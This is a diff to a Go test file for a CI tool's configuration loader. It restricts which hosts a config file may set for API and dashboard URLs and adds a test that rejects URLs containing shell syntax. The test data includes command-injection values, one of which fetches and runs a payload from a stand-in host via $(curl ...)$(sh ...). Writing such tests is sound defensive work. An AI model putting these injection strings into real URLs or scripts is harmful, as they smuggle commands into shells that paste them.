@@ -104,50 +104,58 @@ func TestFileCannotChooseTheRuns(t *testing.T) {
 	}
 }
 
-// TestFileBaseURL proves a file can point the API (and so the key) only
-// at DocketQA's own https hosts or at loopback; any other host needs a
-// flag, an input or a variable.
+// TestFileBaseURL proves a file can point the API (and so the key) and
+// the dashboard links only at DocketQA's own https hosts: not even at
+// loopback, where anything an earlier step of the job started could
+// listen. Any other host needs a flag, an input or a variable.
 func TestFileBaseURL(t *testing.T) {
 	t.Parallel()
-	for _, tc := range []struct {
-		url string
-		ok  bool
-	}{
-		{"https://api.docketqa.com", true},
-		{"https://docketqa.com/api", true},
-		{"https://eu.api.DocketQA.com", true},
-		{"http://127.0.0.1:8080", true},
-		{"http://localhost:9", true},
-		{"https://[::1]:8443", true},
-		{"https://any.host", false},
-		{"https://docketqa.com.evil.example", false},
-		{"https://evildocketqa.com", false},
-		{"https://docketqa.com.", false},
-		{"https://10.0.0.1", false},
-	} {
-		t.Run(tc.url, func(t *testing.T) {
-			t.Parallel()
-			sys := fakeSystem(baseEnv(map[string]string{"DOCKETQA_CONFIG": "gate.yml"}), map[string]string{"gate.yml": "base-url: " + tc.url + "\n"})
-			cfg, _, problems := loadSys(t, nil, sys)
-			if tc.ok {
-				if problems != nil {
-					t.Fatalf("problems %q", problems)
+	for _, name := range []string{"base-url", "dashboard-url"} {
+		where := map[string]string{"base-url": "--base-url, action input base-url or DOCKETQA_BASE_URL",
+			"dashboard-url": "--dashboard-url or DOCKETQA_DASHBOARD_URL"}[name]
+		for _, tc := range []struct {
+			url string
+			ok  bool
+		}{
+			{"https://api.docketqa.com", true},
+			{"https://docketqa.com/api", true},
+			{"https://eu.api.DocketQA.com", true},
+			{"http://127.0.0.1:8080", false},
+			{"http://localhost:9", false},
+			{"https://localhost:9", false},
+			{"https://[::1]:8443", false},
+			{"https://any.host", false},
+			{"https://docketqa.com.evil.example", false},
+			{"https://evildocketqa.com", false},
+			{"https://docketqa.com.", false},
+			{"https://10.0.0.1", false},
+		} {
+			t.Run(name+" "+tc.url, func(t *testing.T) {
+				t.Parallel()
+				sys := fakeSystem(baseEnv(map[string]string{"DOCKETQA_CONFIG": "gate.yml"}), map[string]string{"gate.yml": name + ": " + tc.url + "\n"})
+				cfg, _, problems := loadSys(t, nil, sys)
+				if tc.ok {
+					if problems != nil {
+						t.Fatalf("problems %q", problems)
+					}
+					return
 				}
-				return
-			}
-			if len(problems) != 1 || !strings.Contains(problems[0], "base-url") || !strings.Contains(problems[0], "config file gate.yml line 1") ||
-				!strings.Contains(problems[0], "--base-url, action input base-url or DOCKETQA_BASE_URL") {
-				t.Fatalf("problems %q, want one naming the setting, the file and where else to set it", problems)
-			}
-			if cfg.BaseURL != "" {
-				t.Errorf("BaseURL = %q", cfg.BaseURL)
-			}
-		})
+				if len(problems) != 1 || !strings.Contains(problems[0], name) || !strings.Contains(problems[0], "config file gate.yml line 1") ||
+					!strings.Contains(problems[0], where) {
+					t.Fatalf("problems %q, want one naming the setting, the file and where else to set it", problems)
+				}
+				if cfg.BaseURL != "" || cfg.DashboardURL != "" {
+					t.Errorf("BaseURL = %q, DashboardURL = %q", cfg.BaseURL, cfg.DashboardURL)
+				}
+			})
+		}
 	}
-	// The same host from a flag or the environment is the user's choice.
-	for _, env := range []map[string]string{{"DOCKETQA_BASE_URL": "https://any.host"}, {"INPUT_BASE-URL": "https://any.host"}} {
+	// The same hosts from a flag, an input or the environment are the
+	// user's choice: loopback is how the simulator and tests run.
+	for _, env := range []map[string]string{{"DOCKETQA_BASE_URL": "https://any.host"}, {"INPUT_BASE-URL": "https://any.host"},
+		{"DOCKETQA_BASE_URL": "http://127.0.0.1:8080"}} {
 		sys := fakeSystem(baseEnv(env), nil)
-		if cfg, _, problems := loadSys(t, nil, sys); problems != nil || cfg.BaseURL != "https://any.host" {
+		if cfg, _, problems := loadSys(t, nil, sys); problems != nil || cfg.BaseURL == "" {
 			t.Errorf("%v: %q %q", env, cfg.BaseURL, problems)
 		}
 	}
@@ -155,6 +163,49 @@ func TestFileBaseURL(t *testing.T) {
 	sys := fakeSystem(baseEnv(map[string]string{"DOCKETQA_CONFIG": "gate.yml"}), map[string]string{"gate.yml": "base-url: https://any.host\n"})
 	if cfg, _, problems := loadSys(t, []string{"--base-url", "http://127.0.0.1:1"}, sys); problems != nil || cfg.BaseURL != "http://127.0.0.1:1" {
 		t.Errorf("flag over file: %q %q", cfg.BaseURL, problems)
+	}
+}
+
+// TestURLShellSyntax proves a base or dashboard URL, from anywhere, holds
+// nothing a shell acts on: net/url keeps $ ( ) ' ` ; as they are, and the
+// dashboard root becomes the group-run-url output later steps may paste
+// into a script.
+func TestURLShellSyntax(t *testing.T) {
+	t.Parallel()
+	for _, u := range []string{
+		"https://phish.example/x/$(curl$IFS-o$IFS/tmp/p$IFS'phish.example/p')$(sh$IFS/tmp/p)",
+		"https://app.docketqa.com/$(id)",
+		"https://app.docketqa.com/`id`",
+		"https://app.docketqa.com/a;id",
+		"https://app.docketqa.com/a%20b",
+		"https://app.docketqa.com/a%2Fb",
+		"https://app.docketqa.com/a'b",
+		"https://app.docketqa.com/?q=1",
+		"https://app.docketqa.com/#x",
+		"https://app$IFS.docketqa.com/",
+	} {
+		for _, name := range []string{"DOCKETQA_DASHBOARD_URL", "DOCKETQA_BASE_URL"} {
+			t.Run(name+" "+u, func(t *testing.T) {
+				t.Parallel()
+				cfg, _, problems := loadSys(t, nil, fakeSystem(baseEnv(map[string]string{name: u}), nil))
+				if len(problems) != 1 || !strings.Contains(problems[0], name) {
+					t.Fatalf("problems %q, want one naming %s", problems, name)
+				}
+				if !strings.Contains(problems[0], "- . _ ~ /") && !strings.Contains(problems[0], "?query") &&
+					!strings.Contains(problems[0], "absolute URL") {
+					t.Errorf("problem %q does not say what is allowed", problems[0])
+				}
+				if cfg.DashboardURL != "" || cfg.BaseURL != "" {
+					t.Errorf("the URL took effect: %q %q", cfg.DashboardURL, cfg.BaseURL)
+				}
+			})
+		}
+	}
+	// The same from the file, where the host rule would refuse it anyway.
+	sys := fakeSystem(baseEnv(map[string]string{"DOCKETQA_CONFIG": "gate.yml"}),
+		map[string]string{"gate.yml": `dashboard-url: "https://app.docketqa.com/x/$(sh$IFS/tmp/p)"` + "\n"})
+	if _, _, problems := loadSys(t, nil, sys); len(problems) != 1 || !strings.Contains(problems[0], "- . _ ~ /") {
+		t.Errorf("problems %q", problems)
 	}
 }
 
